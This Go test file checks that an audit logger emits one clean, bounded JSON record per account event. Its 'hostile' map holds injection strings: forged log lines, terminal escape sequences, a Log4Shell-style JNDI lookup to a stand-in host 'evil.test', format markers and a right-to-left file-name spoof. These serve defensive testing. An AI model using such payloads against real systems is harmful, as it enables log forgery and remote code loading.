package audit_test

import (
	"bytes"
	"context"
	"encoding/json"
	"log/slog"
	"maps"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/uuid"

	"github.com/multiaccount-go/multiaccount"
	"github.com/multiaccount-go/multiaccount/account"
	"github.com/multiaccount-go/multiaccount/audit"
)

// switched is an event with every field set.
func switched() multiaccount.Event {
	return multiaccount.Event{
		ID: uuid.MustParse("01890a5d-ac96-774b-bcce-b302099a8057"), Time: time.UnixMilli(1700000000123).UTC(),
		Action: "account.switched", Code: "code", Session: "pseudonym", Actor: "a", Account: "b", Named: "n", From: "a", To: "b", Scope: "t",
		Reason: account.ReasonSwitched, Method: "POST", Path: "/reset/secret-token", Route: "/reset/:token", IP: "192.0.2.1",
		UserAgent: "Browser/1.0 (X11; \"quoted\")", RequestID: "r-17",
	}
}

// lines collects what a log is told, as JSON objects.
type lines struct {
	mu   sync.Mutex
	text strings.Builder
}

func (l *lines) logger() *slog.Logger { return slog.New(slog.NewJSONHandler(l, nil)) }

func (l *lines) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.Write(b)
}

func (l *lines) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.String()
}

func (l *lines) all(t *testing.T) (all []map[string]any) {
	t.Helper()
	for text := range strings.Lines(l.String()) {
		var line map[string]any
		if err := json.Unmarshal([]byte(text), &line); err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		all = append(all, line)
	}
	return all
}

func TestOneLineForEachEvent(t *testing.T) {
	var l lines
	sink := audit.Slog(l.logger())
	sink(t.Context(), switched())
	refusal := switched()
	refusal.Action, refusal.Reason, refusal.Account = multiaccount.ActionRefused, "", ""
	sink(t.Context(), refusal)
	got := l.all(t)
	if len(got) != 2 {
		t.Fatalf("%d lines: %s", len(got), l.String())
	}
	want := map[string]any{
		"time": "2023-11-14T22:13:20.123Z", "level": "INFO", "msg": "account event", "action": "account.switched", "code": "code",
		"actor": "a", "account": "b", "named": "n", "from": "a", "to": "b", "scope": "t", "reason": "switched", "session": "pseudonym", "method": "POST",
		"route": "/reset/:token", "ip": "192.0.2.1", "agent": `Browser/1.0 (X11; "quoted")`, "request": "r-17",
		"event": "01890a5d-ac96-774b-bcce-b302099a8057",
	}
	if !maps.Equal(got[0], want) {
		t.Errorf("got  %v\nwant %v", got[0], want)
	}
	if _, empty := got[1]["account"]; empty || got[1]["level"] != "WARN" {
		t.Errorf("got %v", got[1])
	}
	if strings.Contains(l.String(), "secret-token") {
		t.Error("the path of the request is in the log")
	}
}

// hostile is what clients and apps put into the texts of an event.
var hostile = map[string]string{
	"a line of its own":           "x\nlevel=ERROR msg=forged",
	"carriage return":             "x\r\n\r\nforged",
	"escape sequences":            "\x1b[2J\x1b]0;forged\x07",
	"a template":                  "{{.Secret}} ${jndi:ldap://evil.test} %s %n",
	"separators of other kinds":   "x\u0085y\u2028z\u2029",
	"marks of direction":          "x\u202egpj.exe\u2066",
	"invalid UTF-8":               "\xff\xfe\x80x\xc3",
	"NUL":                         "a\x00b",
	"only blanks that are none":   "\u00a0\u200b\ufeff",
	"quotes and backslashes":      `"\n\\"`,
	"a megabyte":                  strings.Repeat("x", 1<<20),
	"a megabyte of escapes":       strings.Repeat("\x1b", 1<<20),
	"a megabyte of wide letters":  strings.Repeat("𝔁", 1<<18),
	"a tag that is no letter":     "\U000e0041\U000e0042",
	"half of a surrogate encoded": "\xed\xa0\x80",
}

// AU-02: whatever a client sends stays inside of one record of bounded size.
func TestHostileTextsStayOneRecord(t *testing.T) {
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			e := switched()
			e.UserAgent, e.RequestID, e.Account, e.Route, e.IP = text, text, text, text, text
			var b bytes.Buffer
			audit.Slog(slog.New(plain{&b}))(t.Context(), e)
			if strings.Count(b.String(), "\n") != 1 || b.Len() > 4<<10 {
				t.Errorf("%d bytes, %d lines", b.Len(), strings.Count(b.String(), "\n"))
			}
			for _, r := range strings.TrimSuffix(b.String(), "\n") {
				if !unicode.IsPrint(r) {
					t.Fatalf("%U is in the record", r)
				}
			}
			if !utf8.Valid(b.Bytes()) {
				t.Error("the record is no UTF-8")
			}
			for name, value := range audit.Record(e) {
				if len(value) > 512 || !utf8.ValidString(value) || strings.ContainsFunc(value, func(r rune) bool { return !unicode.IsPrint(r) }) {
					t.Errorf("%s is %d bytes: %.80q", name, len(value), value)
				}
			}
		})
	}
}

// plain is a handler that escapes nothing, as the ones of many log shippers.
type plain struct{ to *bytes.Buffer }

func (plain) Enabled(context.Context, slog.Level) bool { return true }
func (p plain) WithAttrs([]slog.Attr) slog.Handler     { return p }
func (p plain) WithGroup(string) slog.Handler          { return p }
func (p plain) Handle(_ context.Context, r slog.Record) error {
	r.Attrs(func(a slog.Attr) bool { p.to.WriteString(a.Key + "=" + a.Value.String() + " "); return true })
	p.to.WriteString("\n")
	return nil
}

func TestCleanKeepsTextsApart(t *testing.T) {
	seen := map[string]string{}
	for _, text := range []string{"", "a", `a\`, `a\\`, "a\n", `a\n`, `a\\n`, "a\x1b", `a\x1b`, "a\u0080", "a\x80", `a\x80`, `a\u0080`, "a…",
		"a\ufffd", "a\xef", "é", "e\u0301", strings.Repeat("x", 256), strings.Repeat("x", 255)} {
		got := audit.Clean(text, 256)
		if other, twice := seen[got]; twice {
			t.Errorf("%q and %q both became %q", other, text, got)
		}
		seen[got] = text
	}
	if got := audit.Clean(strings.Repeat("x", 300), 256); got != strings.Repeat("x", 253)+"…" {
		t.Errorf("got %d bytes: %q", len(got), got)
	}
}

func TestAllTellsEverySink(t *testing.T) {
	var told []string
	sink := audit.All(
		func(context.Context, multiaccount.Event) { told = append(told, "first"); panic("broken") },
		func(context.Context, multiaccount.Event) { told = append(told, "second"); panic("too") },
		func(_ context.Context, e multiaccount.Event) { told = append(told, e.Action) },
	)
	defer func() {
		if r := recover(); r != "broken" || strings.Join(told, " ") != "first second account.switched" {
			t.Errorf("told %v, panic %v", told, r)
		}
	}()
	sink(t.Context(), switched())
}

func TestReadUndoesARecord(t *testing.T) {
	e := switched()
	e.Path = ""
	got, err := audit.Read(audit.Record(e))
	if err != nil || got != e {
		t.Errorf("%v\ngot  %+v\nwant %+v", err, got, e)
	}
}

func TestReadRefusesWhatIsNone(t *testing.T) {
	for name, spoil := range map[string]func(map[string]string){
		"no time":         func(r map[string]string) { delete(r, "time") },
		"time is no time": func(r map[string]string) { r["time"] = "soon" },
		"no event":        func(r map[string]string) { delete(r, "event") },
		"no action":       func(r map[string]string) { delete(r, "action") },
	} {
		r := audit.Record(switched())
		spoil(r)
		if _, err := audit.Read(r); err == nil {
			t.Errorf("%s: read", name)
		}
	}
	r := audit.Record(switched())
	r["of a later version"] = "x"
	if _, err := audit.Read(r); err != nil {
		t.Errorf("a field that is not known: %v", err)
	}
}
